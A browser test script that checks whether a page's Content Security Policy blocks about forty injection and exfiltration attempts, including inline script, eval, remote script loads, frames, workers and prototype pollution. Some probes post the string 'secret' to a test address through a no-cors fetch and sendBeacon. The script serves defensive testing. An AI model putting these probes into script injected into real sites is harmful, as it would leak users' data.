// Tries what a script that got into the page would try. Each probe is held when the content policy reported it, when it threw, or
// when its own check says that nothing came of it.
const [address] = arguments
const http = `http://${address}`

const wait = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds))
const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties))
const loaded = (element) => new Promise((done, failed) => {
  element.onload = done
  element.onerror = () => failed(new Error('it did not load'))
})
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }))

const probes = {
  'inline script': () => add('script', { textContent: 'window.reached = true' }),
  'inline event handler': () => {
    const button = add('button', {})
    button.setAttribute('onclick', 'window.reached = true')
    button.click()
  },
  'javascript link': () => add('a', { href: 'javascript:window.reached = true' }).click(),
  eval: () => { eval('window.reached = true') },
  'indirect eval': () => { globalThis['eval']('window.reached = true') },
  'new Function': () => { new Function('window.reached = true')() },
  'timer with text': () => { setTimeout('window.reached = true', 0) },
  'script from elsewhere': () => loaded(add('script', { src: `${http}/x.js` })),
  'module from elsewhere': () => import(`${http}/x.js`),
  'script from data': () => loaded(add('script', { src: 'data:text/javascript,window.reached = true' })),
  'script from blob': () => loaded(add('script', { src: blob('window.reached = true', 'text/javascript') })),
  fetch: () => fetch(http),
  'fetch without cors': () => fetch(http, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  XMLHttpRequest: () => new Promise((done, failed) => {
    const request = new XMLHttpRequest()
    request.onload = done
    request.onerror = () => failed(new Error('no answer'))
    request.open('GET', http)
    request.send()
  }),
  WebSocket: () => { new WebSocket(`ws://${address}`) },
  EventSource: () => { new EventSource(http) },
  beacon: () => { navigator.sendBeacon(http, 'secret') },
  'ping of a link': () => {
    const link = add('a', { href: '#here' })
    link.ping = `${http}/ping`
    link.click()
  },
  'image from elsewhere': () => loaded(add('img', { src: `${http}/x.png` })),
  'image in a style': () => {
    const element = add('div', { textContent: 'x' })
    element.style.backgroundImage = `url(${http}/x.png)`
    element.getBoundingClientRect()
  },
  'style sheet from elsewhere': () => loaded(add('link', { rel: 'stylesheet', href: `${http}/x.css` })),
  'inline style sheet': () => add('style', { textContent: 'body { color: red }' }),
  'inline style attribute': () => add('p', {}).setAttribute('style', `background: url(${http}/x.png)`),
  'font from elsewhere': () => new FontFace('x', `url(${http}/x.woff2)`).load(),
  'frame from elsewhere': () => add('iframe', { src: http }),
  'frame with its own page': async () => {
    const frame = add('iframe', { srcdoc: '<script>parent.reached = true</script>' })
    await wait(200)
    if (!frame.contentDocument?.querySelector('script')) throw new Error('no page in the frame')
  },
  object: () => add('object', { data: `${http}/x` }),
  embed: () => add('embed', { src: `${http}/x` }),
  audio: () => loaded(add('audio', { src: `${http}/x.mp3`, preload: 'auto' })),
  video: () => loaded(add('video', { src: `${http}/x.mp4`, preload: 'auto' })),
  base: () => {
    document.head.appendChild(Object.assign(document.createElement('base'), { href: `${http}/` }))
    window.reached = document.baseURI.startsWith(http)
  },
  form: () => {
    const form = add('form', { action: http, method: 'post' })
    form.submit()
  },
  'worker from blob': () => { new Worker(blob('1', 'text/javascript')) },
  'worker from elsewhere': () => { new Worker(`${http}/x.js`) },
  'service worker': () => navigator.serviceWorker.register('/sw.js'),
  'manifest from elsewhere': () => {
    document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'manifest', href: `${http}/x.json` }))
    window.reached = false
    throw new Error('only the listener can tell')
  },
  'preload from elsewhere': () => loaded(document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href: `${http}/x.js` }))),
  'prefetch from elsewhere': () => {
    document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${http}/x.js` }))
    throw new Error('only the listener can tell')
  },
  'connection ahead of time': () => {
    document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'preconnect', href: http }))
    throw new Error('only the listener can tell')
  },
  'peer connection': () => { new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}` }] }) },
  'prototype pollution': () => {
    Object.prototype.reached = true
    window.reached = {}.reached === true
    throw new Error('the prototype did not change')
  },
  'allowed: image from data': () => loaded(add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==' })),
}

const results = []
for (const [name, probe] of Object.entries(probes)) {
  let reported = ''
  let thrown = ''
  const listen = (event) => { reported = `${event.violatedDirective} ${event.blockedURI}` }
  window.reached = false
  document.addEventListener('securitypolicyviolation', listen)
  try {
    await Promise.race([probe(), wait(1500)])
  } catch (error) {
    thrown = String(error)
  }
  await wait(100)
  document.removeEventListener('securitypolicyviolation', listen)
  results.push({ name, held: window.reached !== true && (reported !== '' || thrown !== ''), reported, thrown })
}
return results
